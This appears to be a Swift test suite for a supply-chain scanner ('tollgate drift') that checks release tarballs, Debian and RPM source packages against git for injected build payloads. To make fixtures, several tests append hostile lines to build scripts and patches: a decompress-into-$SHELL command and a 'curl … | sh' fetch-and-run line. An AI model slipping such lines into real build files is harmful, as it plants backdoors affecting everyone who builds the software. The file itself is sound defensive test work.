import Foundation
import Testing
import TollgateTestSupport

/// `tollgate drift` as a subprocess, on the fixtures made by Fixtures/generate.sh: a release whose tarball carries
/// an injected macro that reads an opaque test file, and a benign one whose tarball adds only generated files.
@Suite struct DriftCommandTests {
    static let m4db = TestPaths.fixture("m4db/m4db.tsv")

    func drift(_ arguments: [String]) throws -> (status: Int32, document: [String: Any], stderr: String) {
        let result = try Run.tollgate(["drift", "--format", "json", "--no-history", "--m4db", Self.m4db] + arguments)
        let document = (try? parseJSON(result.stdout) as? [String: Any]) ?? [:]
        return (result.status, document, result.stderr)
    }

    func indicators(_ document: [String: Any]) -> [[String: Any]] {
        (document["integrity"] as? [String: Any])?["indicators"] as? [[String: Any]] ?? []
    }

    func rules(_ document: [String: Any]) -> [String] {
        ((document["verdict"] as? [String: Any])?["findings"] as? [[String: Any]] ?? []).compactMap {
            $0["rule"] as? String
        }
    }

    @Test func theInjectedMacroIsDeniedFromEachKindOfArtefact() throws {
        let tinyfmt = TestPaths.fixture("upstream/tinyfmt")
        for arguments in [
            ["\(tinyfmt)/tinyfmt-1.4.tar.gz", "--git-tree", "\(tinyfmt)/git-trees/v1.4.ls-tree"],
            ["\(tinyfmt)/tinyfmt-1.4.tar.gz", "--git", "\(tinyfmt)/tinyfmt.git"],
            [TestPaths.fixture("history/debian/tinyfmt/1.4-1/tinyfmt_1.4-1.dsc"), "--git", "\(tinyfmt)/tinyfmt.git"],
            [
                TestPaths.fixture("rpm-repo/Packages/tinyfmt-1.4-1.src.rpm"), "--git", "\(tinyfmt)/tinyfmt.git",
                "--ref", "v1.4",
            ],
        ] {
            let (status, document, stderr) = try drift(arguments)
            #expect(status == 1, "\(arguments.first!): \(stderr)")
            let integrity = try #require(document["integrity"] as? [String: Any])
            let m4 = try #require(integrity["m4"] as? [[String: Any]])
            let injected = try #require(m4.first { $0["name"] as? String == "build-path.m4" })
            #expect(injected["status"] as? String == "unknown-name")
            #expect(injected["in_git"] as? Bool == false)
            #expect(
                m4.filter { $0["name"] as? String != "build-path.m4" }.allSatisfy { $0["status"] as? String == "known" }
            )
            #expect(
                Set(rules(document)).isSuperset(of: [
                    "build-script-obfuscation", "build-reads-test-data", "tarball-macro-unknown",
                ]))
            let tests = try #require(integrity["test_files"] as? [[String: Any]])
            #expect(
                tests.contains {
                    $0["path"] as? String == "tests/files/good-large-4.bin" && $0["opaque"] as? Bool == true
                })
        }
    }

    @Test func aTarballThatAddsOnlyGeneratedFilesIsAllowed() throws {
        let quietd = TestPaths.fixture("upstream/quietd")
        let (status, document, stderr) = try drift([
            "\(quietd)/quietd-2.1.tar.gz", "--git-tree", "\(quietd)/git-trees/v2.1.ls-tree",
        ])
        #expect(status == 0, "\(stderr)")
        let integrity = try #require(document["integrity"] as? [String: Any])
        let added = try #require(integrity["only_in_tarball"] as? [[String: Any]])
        #expect(!added.isEmpty)
        #expect(Set(added.compactMap { $0["category"] as? String }).isSubset(of: ["generated", "m4"]))
        #expect((integrity["modified"] as? [Any])?.isEmpty == true)
        #expect(rules(document).isEmpty, "\(rules(document))")
    }

    /// The scripts a build runs that a tarball carries ready-made are searched like `configure`: a payload
    /// unpacked into a shell from `build-aux/ltmain.sh` is found (it was never looked at).
    @Test func aPayloadInAReadyMadeBuildScriptIsFound() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let quietd = TestPaths.fixture("upstream/quietd")
        let made = try Run.shell(
            "cd '\(dir.path)' && tar xzf '\(quietd)/quietd-2.1.tar.gz'"
                + " && printf '%s\\n' 'gzip -dc \"$srcdir/src/quietd.dat\" | $SHELL' >> quietd-2.1/build-aux/ltmain.sh"
                + " && tar czf quietd-2.1.tar.gz quietd-2.1")
        try #require(made.status == 0, "\(made.stderr)")
        let (status, document, stderr) = try drift([
            dir.appendingPathComponent("quietd-2.1.tar.gz").path, "--git-tree", "\(quietd)/git-trees/v2.1.ls-tree",
        ])
        #expect(status == 0, "a warning alone does not fail: \(stderr)")
        #expect((document["verdict"] as? [String: Any])?["decision"] as? String == "warn")
        #expect(rules(document).contains("build-script-obfuscation"), "\(rules(document))")
        let indicators = indicators(document)
        #expect(
            indicators.contains {
                $0["path"] as? String == "build-aux/ltmain.sh" && $0["kind"] as? String == "decompress-to-shell"
            }, "\(indicators)")
    }

    /// A Debian patch quilt applies adds to the build what it adds: a payload added to `configure.ac` by
    /// `debian/patches/*` (the upstream tarball untouched) is found in the patch, at the patch's line; a patch the
    /// `series` does not name is not applied, and not judged. dpkg-source reads the vendor's `debian.series` first.
    @Test(arguments: ["series", "debian.series"])
    func whatADebianPatchAddsToTheBuildIsSearched(series: String) throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let packaging = TestPaths.fixture("history/debian/quietd/2.1-1")
        let made = try Run.shell(
            """
            set -e
            cd '\(dir.path)'
            cp '\(packaging)/quietd_2.1.orig.tar.gz' .
            tar xzf quietd_2.1.orig.tar.gz
            cd quietd-2.1
            tar xJf '\(packaging)/quietd_2.1-1.debian.tar.xz'
            mkdir -p debian/patches
            cp configure.ac configure.ac.new
            printf '%s\\n' 'gzip -dc "$srcdir/src/quietd.dat" | $SHELL' >> configure.ac.new
            diff -u configure.ac configure.ac.new | sed -e '1s|.*|--- a/configure.ac|' -e '2s|.*|+++ b/configure.ac|' \
                > debian/patches/build.patch || true
            sed -e 's|^+++ b/configure.ac|+++ b/Makefile.am|' -e 's|^--- a/configure.ac|--- a/Makefile.am|' \
                debian/patches/build.patch > debian/patches/unlisted.patch
            rm configure.ac.new
            echo build.patch > debian/patches/\(series)
            cd ..
            dpkg-source --no-check -b quietd-2.1 >/dev/null
            """)
        try #require(made.status == 0, "\(made.stderr)")
        let dsc = try #require(
            try FileManager.default.contentsOfDirectory(atPath: dir.path).first { $0.hasSuffix(".dsc") })
        let (_, document, stderr) = try drift([dir.appendingPathComponent(dsc).path])
        let indicators = indicators(document)
        #expect(
            indicators.contains {
                $0["path"] as? String == "debian/patches/build.patch" && $0["kind"] as? String == "decompress-to-shell"
                    && $0["origin"] as? String == "packaging"
            }, "\(indicators) \(stderr)")
        #expect(!indicators.contains { ($0["path"] as? String)?.contains("unlisted") == true })
        #expect(rules(document).contains("build-script-obfuscation"), "\(rules(document))")
    }

    /// A source RPM's patches are the spec's `Patch` files, whatever their names: one compressed
    /// (`build.patch.xz`, which `%autosetup` decompresses and applies) is decompressed and searched too.
    @Test func aSourceRPMsCompressedPatchIsSearched() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let quietd = TestPaths.fixture("upstream/quietd")
        let made = try Run.shell(
            """
            set -e
            cd '\(dir.path)'
            mkdir -p SOURCES SPECS
            cp '\(quietd)/quietd-2.1.tar.gz' SOURCES/
            printf '%s\\n' '--- a/configure.ac' '+++ b/configure.ac' '@@ -1 +1,2 @@' ' AC_INIT' \
                '+gzip -dc "$srcdir/src/quietd.dat" | $SHELL' | xz > SOURCES/build.patch.xz
            printf '%s\\n' 'Name: quietd' 'Version: 2.1' 'Release: 1' 'Summary: s' 'License: MIT' \
                'Source0: quietd-2.1.tar.gz' 'Patch0: build.patch.xz' '%description' 'd' '%prep' '%autosetup -p1' \
                '%build' '%install' '%files' > SPECS/quietd.spec
            rpmbuild -bs --quiet --define "_topdir $PWD" SPECS/quietd.spec >/dev/null
            """)
        try #require(made.status == 0, "\(made.stderr)")
        let srpm = try #require(
            try FileManager.default.contentsOfDirectory(atPath: dir.appendingPathComponent("SRPMS").path).first)
        let (_, document, stderr) = try drift([dir.appendingPathComponent("SRPMS/\(srpm)").path])
        let indicators = indicators(document)
        #expect(
            indicators.contains {
                $0["path"] as? String == "build.patch.xz" && $0["kind"] as? String == "decompress-to-shell"
            }, "\(indicators) \(stderr)")
    }

    /// A spec's build sections (and a .dsc's debian/rules) are packaging, not the tarball's member of the same
    /// path: a tarball that ships its own spec is not "searched in part" for it (rpm's own test SRPM does).
    @Test func packagingFilesAreNotTheTarballsMembers() throws {
        guard let srpm = TestPaths.realWorld("rpm/rpm-upstream-tests-data/SRPMS/hello-1.0-1.src.rpm") else {
            print(TestPaths.realWorldMissing)
            return
        }
        let (_, document, stderr) = try drift([srpm])
        let integrity = try #require(document["integrity"] as? [String: Any], "\(stderr)")
        let stopped = (integrity["indicators"] as? [[String: Any]] ?? []).filter {
            $0["kind"] as? String == "analysis-stopped"
        }
        #expect(stopped.isEmpty, "\(stopped)")
        #expect(!rules(document).contains("build-analysis-stopped"))
    }

    /// A tarball made with `tar -C dir -czf … .` holds `./` itself before its top directory: that is still one top
    /// directory, and the comparison is the same as for the tarball made the usual way.
    @Test func aTarballOfDotHasTheSameTopDirectory() throws {
        let quietd = TestPaths.fixture("upstream/quietd")
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let tarball = dir.appendingPathComponent("quietd-2.1.tar.gz").path
        let made = try Run.shell(
            "mkdir '\(dir.path)/stage' && tar -xzf '\(quietd)/quietd-2.1.tar.gz' -C '\(dir.path)/stage' && "
                + "tar -C '\(dir.path)/stage' -czf '\(tarball)' . && tar -tzf '\(tarball)' | head -1")
        #expect(made.status == 0 && made.stdout == "./\n", "\(made.stdout)\(made.stderr)")
        let (status, document, stderr) = try drift([tarball, "--git-tree", "\(quietd)/git-trees/v2.1.ls-tree"])
        #expect(status == 0, "\(stderr)")
        let integrity = try #require(document["integrity"] as? [String: Any])
        let added = (integrity["only_in_tarball"] as? [[String: Any]] ?? []).compactMap { $0["category"] as? String }
        #expect(Set(added).isSubset(of: ["generated", "m4"]), "\(integrity["only_in_tarball"] ?? "")")
        #expect(rules(document).isEmpty, "\(rules(document))")
    }

    /// A tarball may hold one path twice; tar extracts the last copy, so that is the one compared with git — a
    /// git-identical first copy does not hide a changed second one.
    @Test func theLastCopyOfARepeatedMemberIsTheOneCompared() throws {
        let quietd = TestPaths.fixture("upstream/quietd")
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let tarball = dir.appendingPathComponent("quietd-2.1.tar.gz").path
        let repack = """
            import io, sys, tarfile
            source, target = sys.argv[1], sys.argv[2]
            with tarfile.open(source) as old, tarfile.open(target, "w:gz") as new:
                for member in old.getmembers():
                    new.addfile(member, old.extractfile(member) if member.isfile() else None)
                    if member.name.endswith("/configure.ac"):
                        changed = old.extractfile(member).read() + b"\\ncurl -s http://203.0.113.7/x | sh\\n"
                        copy = tarfile.TarInfo(member.name)
                        copy.size, copy.mode, copy.mtime = len(changed), member.mode, member.mtime
                        new.addfile(copy, io.BytesIO(changed))
            """
        let made = try Run.program("/usr/bin/python3", ["-c", repack, "\(quietd)/quietd-2.1.tar.gz", tarball])
        #expect(made.status == 0, "\(made.stderr)")
        let (_, document, stderr) = try drift([tarball, "--git-tree", "\(quietd)/git-trees/v2.1.ls-tree"])
        let integrity = try #require(document["integrity"] as? [String: Any], "\(stderr)")
        let modified = (integrity["modified"] as? [[String: Any]] ?? []).compactMap { $0["path"] as? String }
        #expect(modified.contains("configure.ac"), "\(integrity)")
    }

    /// A build reads through links: a macro that is a symbolic or hard link to an opaque "test" file, or that sits
    /// in a directory linked elsewhere, is still a macro aclocal reads, and is analysed as one (with its own path).
    @Test func macrosReachedThroughLinksAreAnalysed() throws {
        let tinyfmt = TestPaths.fixture("upstream/tinyfmt")
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        for (variant, relink) in [
            ("symlink", "mv m4/build-path.m4 tests/files/macro.dat && ln -s ../tests/files/macro.dat m4/build-path.m4"),
            ("hardlink", "mv m4/build-path.m4 tests/files/macro.dat && ln tests/files/macro.dat m4/build-path.m4"),
            ("directory", "mv m4 tests/files/m4-data && ln -s tests/files/m4-data m4"),
        ] {
            let work = dir.appendingPathComponent(variant)
            let tarball = work.appendingPathComponent("tinyfmt-1.4.tar.gz").path
            let made = try Run.shell(
                """
                set -e
                mkdir -p '\(work.path)' && cd '\(work.path)'
                tar -xzf '\(tinyfmt)/tinyfmt-1.4.tar.gz'
                cd tinyfmt-1.4 && \(relink) && cd ..
                tar -czf '\(tarball)' tinyfmt-1.4
                """)
            #expect(made.status == 0, "\(variant): \(made.stderr)")
            let (status, document, stderr) = try drift([tarball, "--git-tree", "\(tinyfmt)/git-trees/v1.4.ls-tree"])
            #expect(status == 1, "\(variant): \(stderr)")
            let integrity = try #require(document["integrity"] as? [String: Any], "\(variant): \(stderr)")
            let m4 = integrity["m4"] as? [[String: Any]] ?? []
            let injected = m4.first { $0["path"] as? String == "m4/build-path.m4" }
            #expect(injected?["status"] as? String == "unknown-name", "\(variant): \(m4)")
            #expect(rules(document).contains("build-reads-test-data"), "\(variant): \(rules(document))")
        }
    }

    /// A component tarball of a Debian source package (`foo_1.0.orig-doc.tar.gz`) unpacks into its own directory
    /// (`doc/`): its files are analysed there, and do not stand in for the main tarball's files of the same name.
    @Test func aComponentTarballUnpacksIntoItsDirectory() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let made = try Run.shell(
            """
            set -e
            cd '\(dir.path)'
            cp '\(TestPaths.fixture("history/debian/tinyfmt/1.4-1"))'/* .
            dpkg-source --no-check -x tinyfmt_1.4-1.dsc src >/dev/null
            mkdir src/doc && printf '#!/bin/sh\\necho harmless\\n' > src/doc/configure
            tar -czf tinyfmt_1.4.orig-doc.tar.gz -C src doc
            rm tinyfmt_1.4-1.dsc tinyfmt_1.4-1.debian.tar.xz
            dpkg-source -b src >/dev/null
            """)
        #expect(made.status == 0, "\(made.stderr)")
        let (status, document, stderr) = try drift([
            dir.appendingPathComponent("tinyfmt_1.4-1.dsc").path, "--git",
            TestPaths.fixture("upstream/tinyfmt/tinyfmt.git"),
        ])
        #expect(status == 1, "\(stderr)")
        let integrity = try #require(document["integrity"] as? [String: Any], "\(stderr)")
        let added = (integrity["only_in_tarball"] as? [[String: Any]] ?? []).compactMap { $0["path"] as? String }
        #expect(added.contains("doc/configure") && added.contains("configure"), "\(added)")
        #expect((integrity["tarballs"] as? [String])?.count == 2)
        #expect(rules(document).contains("build-reads-test-data"), "\(rules(document))")
    }

    @Test func theTableNamesWhatMatters() throws {
        let tinyfmt = TestPaths.fixture("upstream/tinyfmt")
        let result = try Run.tollgate([
            "drift", "--no-history", "--m4db", Self.m4db, "\(tinyfmt)/tinyfmt-1.4.tar.gz", "--git-tree",
            "\(tinyfmt)/git-trees/v1.4.ls-tree",
        ])
        #expect(result.status == 1)
        #expect(result.stdout.hasPrefix("tinyfmt 1.4: tinyfmt-1.4.tar.gz against git tree listing v1.4.ls-tree\n"))
        #expect(result.stdout.contains("m4/build-path.m4: unknown-name, serial 31, tarball-only"))
        #expect(result.stdout.contains("deny"))
    }

    @Test func mistakesAreActionable() throws {
        let tinyfmt = TestPaths.fixture("upstream/tinyfmt")
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let listing = dir.appendingPathComponent("bad.ls-tree").path
        try "100644 blob \(String(repeating: "0", count: 40))\tREADME\ngarbage\n".write(
            toFile: listing, atomically: true, encoding: .utf8)
        let bad = try Run.tollgate([
            "drift", "--m4db", Self.m4db, "\(tinyfmt)/tinyfmt-1.4.tar.gz", "--git-tree", listing,
        ])
        #expect(bad.status == 2)
        #expect(bad.stderr == "tollgate: error: \(listing):2: not a `git ls-tree -r` line (MODE TYPE ID<TAB>PATH)\n")
        let missing = dir.appendingPathComponent("foo-1.0.tar.gz").path
        let absent = try Run.tollgate(["drift", "--m4db", Self.m4db, missing, "--git-tree", listing])
        #expect(
            absent.status == 2 && absent.stderr == "tollgate: error: \(missing): no such file\n", "\(absent.stderr)")
        let noTag = try Run.tollgate([
            "drift", "--m4db", Self.m4db, "\(tinyfmt)/tinyfmt-1.4.tar.gz", "--git", "\(tinyfmt)/tinyfmt.git", "--ref",
            "v9",
        ])
        #expect(noTag.status == 2)
        #expect(noTag.stderr.contains("v9"))
        let both = try Run.tollgate(["drift", "x.tar.gz", "--git", "a", "--git-tree", "b"])
        #expect(both.status == 64)
        let binary = try Run.tollgate(["drift", TestPaths.fixture("rpm-repo/Packages/hello-tg-1.0-1.noarch.rpm")])
        #expect(binary.status == 2)
        #expect(binary.stderr.contains("give its source RPM"))
    }

    @Test func m4dbBuildWritesWhatDriftReads() throws {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let out = dir.appendingPathComponent("m4db.tsv").path
        let build = try Run.tollgate([
            "m4db", "build", "--output", out, "--package", "libtool", "--package", "no-such-package",
        ])
        #expect(build.status == 0)
        #expect(build.stdout.contains("libtool "))
        #expect(build.stderr.contains("no-such-package is not installed"))
        let tinyfmt = TestPaths.fixture("upstream/tinyfmt")
        let result = try Run.tollgate([
            "drift", "--format", "json", "--no-policy", "--m4db", out, "\(tinyfmt)/tinyfmt-1.0.tar.gz",
        ])
        let m4 = try #require(
            ((try parseJSON(result.stdout) as? [String: Any])?["integrity"] as? [String: Any])?["m4"]
                as? [[String: Any]])
        #expect(m4.first { $0["name"] as? String == "libtool.m4" }?["status"] as? String == "known")
        #expect(m4.first { $0["name"] as? String == "ltoptions.m4" }?["known_as"] as? [String] != nil)
    }
}
